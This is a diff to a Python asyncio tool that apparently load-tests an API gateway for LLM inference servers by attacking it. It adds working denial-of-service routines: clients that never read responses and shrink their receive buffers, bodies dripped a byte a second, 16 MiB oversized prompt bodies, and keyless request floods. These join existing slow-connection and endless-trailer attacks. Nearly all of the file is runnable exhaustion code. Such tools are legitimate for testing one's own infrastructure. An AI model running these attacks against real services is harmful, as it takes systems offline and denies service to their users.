@@ -6,6 +6,7 @@ attack that the gateway cuts off begins again at once, as an enemy would.
 
 import asyncio
 import itertools
+import socket
 import sys
 import time
 from collections.abc import Awaitable, Callable
@@ -49,6 +50,15 @@ class Attack:
 async def pipeline(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
     batch = b"GET /openapi.json HTTP/1.1\r\nHost: gateway\r\n\r\n" * 500
     await _send_for_ever(target, writer, batch)
+
+
+async def refuse_answers(
+    target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter
+) -> None:
+    """Requests that get 401, and a receive buffer that is soon full."""
+    writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
+    writer.transport.pause_reading()
+    await _send_for_ever(target, writer, b"GET /v1/models HTTP/1.1\r\nHost: g\r\n\r\n" * 400)
 
 
 async def trail(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -105,6 +115,15 @@ async def crumble(
             await asyncio.sleep(0)
 
 
+async def drip(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    """A body that comes at a byte a second, after 60 KiB at once."""
+    writer.write(target.head(f"Content-Length: {BODY_LIMIT}", key=True) + b" " * 61_440)
+    while not target.over:
+        writer.write(b" ")
+        await writer.drain()
+        await asyncio.sleep(1)
+
+
 async def idle(target: Target, reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
     await _hold(target, reader)
 
@@ -118,15 +137,19 @@ def send_body(body: bytes) -> Callable[..., Awaitable[None]]:
         while not target.over:
             writer.write(target.head(f"Content-Length: {len(body)}", key=True) + body)
             await writer.drain()
-            head = await reader.readuntil(b"\r\n\r\n")
-            length = next(
-                int(line.split(b":")[1])
-                for line in head.lower().split(b"\r\n")
-                if line.startswith(b"content-length")
-            )
-            await reader.readexactly(length)
+            await _read_answer(reader)
 
     return send
+
+
+async def _read_answer(reader: asyncio.StreamReader) -> None:
+    head = await reader.readuntil(b"\r\n\r\n")
+    length = next(
+        int(line.split(b":")[1])
+        for line in head.lower().split(b"\r\n")
+        if line.startswith(b"content-length")
+    )
+    await reader.readexactly(length)
 
 
 def _full(start: bytes, element: bytes, end: bytes) -> bytes:
@@ -138,9 +161,24 @@ def _fields() -> bytes:
     return b'{"model":"other","prompt":"a",' + names + b"}"
 
 
+def _served() -> bytes:
+    """A request for many tokens, of which an engine ignores the largest part."""
+    begin = b'{"model":"facebook/opt-13b","prompt":"a","max_tokens":1000,"user":"'
+    return _full(begin, b"a", b'"}')
+
+
+async def send_without_key(
+    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
+) -> None:
+    while not target.over:
+        writer.write(b"GET /v1/models HTTP/1.1\r\nHost: g\r\n\r\n")
+        await _read_answer(reader)
+
+
 _MODEL = b'{"model":"other",'
 ATTACKS = {
     "pipelined": Attack("requests for /openapi.json, answers never read", 4, pipeline),
+    "unread": Attack("2,000 clients that read none of their 401s", 2_000, refuse_answers),
     "trailer": Attack("a trailer that never ends", 1, trail),
     "trailers": Attack("trailer fields that never end", 1, trail_fields),
     "extension": Attack("a chunk extension that never ends", 1, extend),
@@ -149,6 +187,9 @@ ATTACKS = {
     ),
     "bodies-key": Attack("the same with a valid key", 64, withhold_with_key),
     "crumbs": Attack("8 bodies in pieces of three bytes", 8, crumble),
+    "drip": Attack("1,000 bodies at a byte a second", 1_000, drip),
+    "served": Attack("64 bodies of 16 MiB that engines hold", 64, send_body(_served())),
+    "keyless": Attack("64 clients without a key, request after request", 64, send_without_key),
     "idle": Attack("17,000 silent connections of one address", 17_000, idle),
     "idle-many": Attack("17,000 silent connections of 64 addresses", 17_000, idle, MANY_ADDRESSES),
     "prompts": Attack(
